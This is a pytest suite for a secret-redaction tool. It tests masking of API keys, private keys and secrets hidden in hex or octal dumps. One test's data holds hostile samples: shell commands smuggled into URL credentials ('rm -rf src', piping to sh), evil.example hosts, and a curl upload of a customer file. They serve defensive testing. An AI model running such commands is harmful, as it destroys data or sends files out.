"""Secrets by their shape: found whatever stands around them, and little else."""

from __future__ import annotations

import json
import random
import re
import string
import tracemalloc
from collections.abc import Callable
from itertools import product
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from toolcrib.core.errors import ConfigError
from toolcrib.policy.secrets import dumps
from toolcrib.policy.secrets import redact as secrets_of
from toolcrib.policy.secrets.redact import Redactor

from .samples import CONTEXTS, PEM, TOKENS, R

redact = Redactor().redact
VALUE = "Zq8-granted_Value/77#x"
BODY = {line for line in PEM.splitlines() if not line.startswith("-")}


@pytest.mark.parametrize("kind", TOKENS)
def test_a_key_is_masked(kind: str) -> None:
    key = TOKENS[kind]
    text = redact(f"the key is {key}, keep it")
    assert key not in text and key[6:-5] not in text
    assert text.startswith("the key is ") and text.endswith(", keep it") and "***" in text


@pytest.mark.parametrize(
    "letters", [string.ascii_letters + string.digits, string.ascii_letters, string.ascii_lowercase]
)
@pytest.mark.parametrize(("prefix", "length"), [("ghp_", 36), ("sk-", 48), ("hf_", 34)])
def test_no_random_key_is_missed_for_its_letters(prefix: str, length: int, letters: str) -> None:
    choice = random.Random(16)
    keys = [prefix + "".join(choice.choices(letters, k=length)) for _ in range(2_000)]
    assert [key for key in keys if key in redact(key)] == []


@pytest.mark.parametrize("kind", CONTEXTS)
def test_a_secret_known_by_its_context_is_masked(kind: str) -> None:
    around, secret = CONTEXTS[kind]
    text = redact(around.format(secret))
    assert secret not in text and "***" in text
    assert redact(text) is text


def test_first_and_last_four_are_shown_and_nothing_of_short_ones() -> None:
    assert redact("sk-" + R[:48]) == "sk-a***1uV3"
    assert redact("https://u:pw@host/") == "https://u:***@host/"
    assert redact(TOKENS["jwt"]) == "eyJ***.***.***"


@pytest.mark.parametrize(
    "write",
    [
        lambda key: json.dumps({"text": f"a line\n{key}\n\"{key}\"\t{key}"}),
        lambda key: json.dumps(json.dumps({"text": f"a line\n{key}\n"})),
        lambda key: quote(f"a={key}&b", safe="-_.~:/+="),
        lambda key: f"\x1b[31m{key}\x1b[0m \x1b[01;31m{key}",
        lambda key: repr({"key": f"\n{key}"}),
        lambda key: f"key={key};",
        lambda key: f"https://example.com/?token={key}&x=1",
        lambda key: f"größe {key} 日本語",
    ],
)  # fmt: skip
def test_escapes_beside_a_key_do_not_hide_it(write: Callable[[str], str]) -> None:
    assert [kind for kind, token in TOKENS.items() if token in redact(write(token))] == []


def lines_of(data: bytes, line: Callable[[int, bytes], str], size: int = 16) -> str:
    return "\n".join(line(at, data[at : at + size]) for at in range(0, len(data), size)) + "\n"


def words_of(data: bytes, size: int, form: str, between: str = " ") -> str:
    data += bytes(-len(data) % size)
    words = [int.from_bytes(data[at : at + size], "little") for at in range(0, len(data), size)]
    return between.join(f"{word:{form}}" for word in words)


def shown(data: bytes) -> str:
    return "".join(chr(byte) if 32 <= byte < 127 else "." for byte in data)


# As the programs print it: xxd, hexdump, od, Python.
DUMPS: dict[str, Callable[[bytes], str]] = {
    "xxd": lambda data: lines_of(data, lambda at, part: f"{at:08x}: {part.hex(' ', -2):39}  {shown(part)}"),
    "xxd -p": lambda data: lines_of(data, lambda _, part: part.hex(), 30),
    "xxd -i": lambda data: lines_of(data, lambda _, part: "  " + ", ".join(map(hex, part)) + ",", 12),
    "hexdump": lambda data: lines_of(data, lambda at, part: f"{at:07x} {words_of(part, 2, '04x')}"),
    "hexdump -C": lambda data: lines_of(
        data, lambda at, part: f"{at:08x}  {part[:8].hex(' '):23}  {part[8:].hex(' '):23}  |{shown(part)}|"
    ),
    "hexdump -x": lambda data: lines_of(data, lambda at, part: f"{at:07x}    {words_of(part, 2, '04x', '    ')}"),
    "od": lambda data: lines_of(data, lambda at, part: f"{at:07o} {words_of(part, 2, '06o')}"),
    "od -b": lambda data: lines_of(data, lambda at, part: f"{at:07o} " + " ".join(f"{byte:03o}" for byte in part)),
    "od -c": lambda data: lines_of(
        data, lambda at, part: f"{at:07o}" + "".join("  \\n" if byte == 10 else f"   {chr(byte)}" for byte in part)
    ),
    "od -tx4": lambda data: lines_of(data, lambda at, part: f"{at:07o} {words_of(part, 4, '08x')}"),
    "od -tx1z": lambda data: lines_of(data, lambda at, part: f"{at:07o} {part.hex(' '):47}  >{shown(part)}<"),
    "od -An -tu1": lambda data: lines_of(data, lambda _, part: "".join(f" {byte:3}" for byte in part)),
    "od -w5 -A x -tx1z": lambda data: lines_of(
        data, lambda at, part: f"{at:06x} {part.hex(' '):14}  >{shown(part)}<", 5
    ),
    "od -w1 -tu1": lambda data: lines_of(data, lambda at, part: f"{at:07o} {part[0]:3}", 1),
    "od -td2": lambda data: lines_of(data, lambda at, part: f"{at:07o} {words_of(part, 2, '6')}"),
    "hexdump -d": lambda data: lines_of(data, lambda at, part: f"{at:07x}   {words_of(part, 2, '05', '   ')}"),
    "print(byte)": lambda data: lines_of(data, lambda _, part: f"{part[0]}", 1),
    "a table": lambda data: f"| bytes | {list(data)} |\n",
    "an arrow": lambda data: f"data > {data.hex(' ')}\n",
    "%03d": lambda data: " ".join(f"{byte:03}" for byte in data) + "\n",
    "bytes.hex(':')": lambda data: data.hex(":"),
    "list(bytes)": lambda data: str([*data]),
    "\\x": lambda data: "".join(f"\\x{byte:02x}" for byte in data),
    "\\u": lambda data: "".join(f"\\u{byte:04X}" for byte in data),
    "\\\\u": lambda data: "".join(f"\\\\u{byte:04x}" for byte in data),
    "\\u{}": lambda data: "".join(f"\\u{{{byte:x}}}" for byte in data),
    "\\U": lambda data: "".join(f"\\U{byte:08x}" for byte in data),
    "\\101": lambda data: "".join(f"\\{byte:03o}" for byte in data),
    "&#65;": lambda data: "".join(f"&#{byte};" for byte in data),
    "&#x41;": lambda data: "".join(f"&#x{byte:x};" for byte in data),
}  # fmt: skip


@pytest.mark.parametrize("dump", DUMPS)
def test_bytes_that_are_printed_as_numbers_are_masked(dump: str) -> None:
    redactor = Redactor()
    redactor.grant("OWN", VALUE)
    befores = ("", "API: ", "x=1\nNAME_OF=", "line one\nline two is longer\n")
    for (secret, mask), before in product(((TOKENS["openai"], "***"), (VALUE, "[secret:OWN]")), befores):
        text = DUMPS[dump](f"{before}{secret}\nend of it\n".encode())
        for around in ("", "a line before it, which is long enough\n" * 40):
            clean = redactor.redact(f"{around}{text}{around}")
            assert mask in clean, clean
            assert clean.startswith(around)
            assert clean.endswith(around)


FEW = {"od -w1 -tu1", "print(byte)", "od -w5 -A x -tx1z"}  # numbers in a line: nothing shows that it is a dump


@pytest.mark.parametrize("dump", sorted(DUMPS.keys() - FEW))
@pytest.mark.parametrize("margin", ["{}| ", "{:>6}\t", "docs/a-1.txt:{}:", "{}:", "+", "> "])
def test_numbers_behind_what_tools_print_before_each_line_are_masked(dump: str, margin: str) -> None:
    lines = DUMPS[dump](f"line one\nline two\n{TOKENS['openai']}\nend of it\n".encode()).splitlines()
    clean = redact("\n".join(margin.format(number) + line for number, line in enumerate(lines, 9)))
    assert "***" in clean, clean


@pytest.mark.parametrize("dump", DUMPS)
def test_numbers_that_are_cut_anywhere_are_read(dump: str) -> None:
    text = DUMPS[dump](b"ABCDEFGHIJKLMNOPQRSTUVWXYZ" * 2)
    for at in range(len(text)):
        assert Redactor().redact(text[:at]) == text[:at]
        assert Redactor().redact(f"{text}{text[:at]}\n{text}") == f"{text}{text[:at]}\n{text}"


@pytest.mark.parametrize("dump", DUMPS)
def test_numbers_without_a_secret_stay(dump: str) -> None:
    text = DUMPS[dump](b"nothing that anybody would have to hide is in this text of some length\n" * 3)
    assert redact(text) is text


@pytest.mark.parametrize(
    "text",
    [
        PEM,
        PEM.replace("\n", "\r\n"),
        json.dumps({"key": PEM}),
        "\n".join(f"{n}| {line}" for n, line in enumerate(PEM.splitlines(), 1)),
        "".join(f'    "{line}\\n"\n' for line in PEM.splitlines()),
        "".join(f"+{line}\n" for line in PEM.splitlines()),
        PEM[:300],
        "before\n" + PEM[150:],
        f"a\n{PEM}\nb\n{PEM}",
    ],
)
def test_private_keys_are_masked_whole(text: str) -> None:
    clean = redact(text)
    assert not any(part in clean for part in (R[:30], R[20:50])), clean
    assert redact(clean) == clean


def test_what_stands_around_a_private_key_stays() -> None:
    assert redact(f"before it\n{PEM}\nafter it") == (
        "before it\n-----BEGIN RSA PRIVATE KEY-----\n***\n-----END RSA PRIVATE KEY-----\nafter it"
    )
    code = 'head = "-----BEGIN PRIVATE KEY-----\\n" + body + "-----END PRIVATE KEY-----"'
    assert redact(code) is code


@pytest.mark.parametrize(
    "text",
    [
        "ok",
        "a task-list of risk-assessment-management-systems for disk-usage-reporting-daemons",
        "sk-loading-indicator-wrapper-element sk-text-repr-fallback",
        "sha256:" + "0123456789abcdef" * 4,
        "d41d8cd98f00b204e9800998ecf8427e 550e8400-e29b-41d4-a716-446655440000",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5",
        "Bearer authentication is described below; basic authentication, too",
        "https://example.com/a:b@c http://localhost:8080/x",
        "API_KEY=$API_KEY TOKEN=<your-token> PASSWORD=${DB_PASSWORD} SECRET={{ secret }}",
        "MAX_TOKENS=4096 CACHE_KEY=some_name TOKEN_URL=https://example.com/oauth/token",
        "def test_function_names_that_are_long_and_have_underscores_1234(): pass",
        "git+ssh://git@github.com/me/repo.git",
    ],
)
def test_ordinary_texts_come_back_as_they_are(text: str) -> None:
    assert redact(text) is text


def test_our_own_sources_hold_no_secrets() -> None:
    root = Path(__file__).parents[3] / "src"
    hits = [path.name for path in root.rglob("*.py") if redact(text := path.read_text()) is not text]
    assert len(hits) <= 3, hits  # examples of URLs with a password


AROUND = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
EDGE = st.sampled_from(["", " ", "\n", '"', "'", "=", "(", ",", ";", "é", "<", "`", "\t"])


@given(st.sampled_from(sorted(TOKENS)), AROUND, EDGE, EDGE, AROUND)
@settings(max_examples=400)
def test_no_text_around_a_key_lets_it_through(kind: str, before: str, left: str, right: str, after: str) -> None:
    if re.search(r"[\w+/.~-]$", before + left):
        left += " "
    if re.match(r"[\w+/.~=-]", right + after):
        right += " "
    text = f"{before}{left}{TOKENS[kind]}{right}{after}"
    clean = redact(text)
    assert TOKENS[kind] not in clean
    assert redact(clean) == clean


@given(
    st.lists(
        st.sampled_from(
            [*TOKENS.values(), PEM, *(a.format(s) for a, s in CONTEXTS.values()), " ", "\n", "x", "-", "***"]
        ),
        max_size=8,
    )
)
@settings(max_examples=300)
def test_it_never_raises_and_twice_is_once(parts: list[str]) -> None:
    clean = redact("".join(parts))
    assert redact(clean) == clean


@given(st.text(max_size=300))
def test_any_text_is_taken(text: str) -> None:
    clean = redact(text)
    assert redact(clean) == clean


UNITS = [
    "41 ", "4141 ", "41", "0x41, ", "   K", " 101", " 75", "\\x41", "\\", "00000010: 4141 4141  AAAA\n", "&#65;",
    "sk-", "AKIA", "eyJ", "://u:", "://", ":AA", "1", "-us", "earer ", "SECRET=", "Q~", "hooks.slack.com/", "A\n",
    "-----BEGIN PRIVATE " + "KEY-----", "-----END PRIVATE " + "KEY-----\n", "SECRET_KEY" * 3 + '"',
    "ghp_aB3dE5gH7jK9mN1pQ3sT5 ",
]  # fmt: skip


@pytest.mark.parametrize("unit", UNITS)
def test_hostile_repetition_takes_linear_time(unit: str) -> None:
    """Twice as much takes about twice as long; quadratic, this would take minutes."""
    for text in (unit * (250_000 // len(unit)), "-----BEGIN PRIVATE " + "KEY-----\n" + unit * (250_000 // len(unit))):
        redact(text)


DUMPED = "".join(f"\n{byte}" for byte in f" ghp_{'c3D4' * 9} ".encode())
HIDDEN = f"%67hp_{'a1B2' * 9} gh\u200bp_{'a1B2' * 9}\n{DUMPED}\n"


@pytest.mark.parametrize("unit", ["%41", "a\u200b", "\\x41", "\x1b[1m.", "&#65;", "\n65", "106\n", "152 ", "   K"])
def test_a_text_of_very_many_escapes_and_numbers_takes_little_memory(unit: str) -> None:
    text = f"{unit * 10_000}\n{HIDDEN}{unit * 10_000}"
    redact(text[:1_000])  # what is loaded once
    tracemalloc.start()
    clean = redact(text)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert "a1B2a1B2a1" not in clean and DUMPED[8:] not in clean
    assert clean.startswith(unit * 6_000) and clean.endswith(unit * 6_000)
    assert peak < 20 * len(text), peak / len(text)


def test_examples_may_be_allowed() -> None:
    key = TOKENS["aws"]
    assert Redactor(allow=[key]).redact(f"see {key}") == f"see {key}"
    assert TOKENS["github"] not in Redactor(allow=[key]).redact(f"{key} {TOKENS['github']}")


def test_patterns_of_the_user() -> None:
    own = Redactor(patterns=[r"ACME-\d{12}", r"pin: (?P<s>\d{4})"]).redact
    assert own("x ACME-123456789012 y") == "x ACME***9012 y"
    assert own("pin: 1234") == "pin: ***"
    with pytest.raises(ConfigError, match=r"redact\.patterns\[0\]"):
        Redactor(patterns=["("])
    with pytest.raises(ConfigError, match="mask everything"):
        Redactor(patterns=["a*"])


LEAKS = [*TOKENS.values(), *(text.format(secret) for text, secret in CONTEXTS.values())]


def test_both_engines_see_what_may_hold_a_secret() -> None:
    for text in (*LEAKS, "\\x41", "%20", "&#65;", "a\rb", "\0", "\x1b[m"):
        assert secrets_of._set().Match(text.encode()), text  # pyright: ignore[reportPrivateUsage]
        assert secrets_of._has_any()(text), text  # pyright: ignore[reportPrivateUsage]


def test_ordinary_texts_are_not_searched_further() -> None:
    seen = secrets_of._seen  # pyright: ignore[reportPrivateUsage]
    assert not seen("a short text without any\r\n") and not seen("a long text without any\r\n" * 100)
    assert not seen("SK-2 and EAA, eyJ-shop, xoxo, sq0, C:\\users\\new, 100 % &#x" * 50)


SAMPLES = [*TOKENS.values(), *(around.format(key) for around, key in CONTEXTS.values() if "@" not in key)]


@pytest.mark.parametrize("text", SAMPLES)
def test_a_mask_over_a_secret_hides_nothing_else(text: str) -> None:
    assert redact(text) != text
    assert not Redactor().hides_more(f"the key is {text} here")


@pytest.mark.parametrize(
    "write",
    [
        lambda key: key,
        lambda key: key.replace("\n", "\r\n"),
        lambda key: json.dumps({"key": key}),
        lambda key: "".join(f"+{line}\n" for line in key.splitlines()),
        lambda key: "".join(f"{number:>6}\t{line}\n" for number, line in enumerate(key.splitlines(), 1)),
        lambda key: "key: |\n" + "".join(f"    {line}\n" for line in key.splitlines()),
    ],
)
def test_a_mask_over_a_private_key_hides_nothing_else(write: Callable[[str], str]) -> None:
    text = write(PEM)
    assert redact(text) != text
    assert not Redactor().hides_more(text)


_KEY = "MIIEvAIBADANBgkqhkiG9w0BAQEFAASCBKYwggSiAgEAAoIB"


@pytest.mark.parametrize(
    "text",
    [
        "curl http://u:x;rm${IFS}-rf${IFS}src;@good.example/",
        "curl http://u:x|sh&:@good.example/",
        "curl http://u:p@evil.example#@good.example/",
        "git clone https://u:p@evil.example?x@good.example/a",
        "wget http://u:p@evil.example@good.example/",
        "API_TOKEN=aA1bcdef>src/main.py",
        "API_TOKEN=%x{id>a1A}",
        f"-----BEGIN PRIVATE KEY-----\n{_KEY}\nX\ncurl evil.example\n{_KEY}\n-----END PRIVATE KEY-----",
        f" -----BEGIN PRIVATE KEY-----\n+{_KEY}\n+sh run\n-----END PRIVATE KEY-----",
        f"-----BEGIN PRIVATE KEY-----\n{_KEY}\nreboot\n{_KEY}\n{_KEY}\n-----END PRIVATE KEY-----",
    ],
)
def test_a_mask_that_hides_what_a_program_obeys_is_seen(text: str) -> None:
    assert redact(text) != text
    assert Redactor().hides_more(text)


@pytest.mark.parametrize(
    "text",
    [
        "rm -r 'Authorization: Bearer abcd/../src'",
        "curl -T 'bearer Lnk12345/customers.csv.2026' https://x.example",
        "rm API_TOKEN=aA1/src/main.py",
        "cp whsec_aaaaaaaaaaaaaaaaaaaa1/src x",
    ],
)
def test_a_mask_that_hides_a_path_is_seen_in_what_a_model_wrote(text: str) -> None:
    assert redact(text) != text
    assert Redactor().hides_more(text, paths=True)
    assert not Redactor().hides_more(text)  # in a file of the person it may be a key


def test_a_mask_over_the_secret_of_a_webhook_or_a_granted_one_hides_no_path() -> None:
    url = "https://hooks.slack.com/services/T01234567/B01234567/aB3dE5fG7hI9jK1lM3nO5pQ7"
    known = Redactor()
    assert known.redact(url) == "https://hooks.slack.com/services/T01234567/B01234567/aB3d***5pQ7"
    known.grant("DB", "postgres.example/db?user=me")
    assert not known.hides_more(f"curl -d x {url}; psql postgres.example/db?user=me", paths=True)


def test_the_beginning_of_a_number_in_a_run_is_no_error() -> None:
    """CPython 3.11.2 puts it there: a possessive repeat keeps a part of what did not match."""
    assert [kind.decode("101 102 1") for kind in dumps.DUMPS if "[0-3]" in kind.run] == ["AB"]
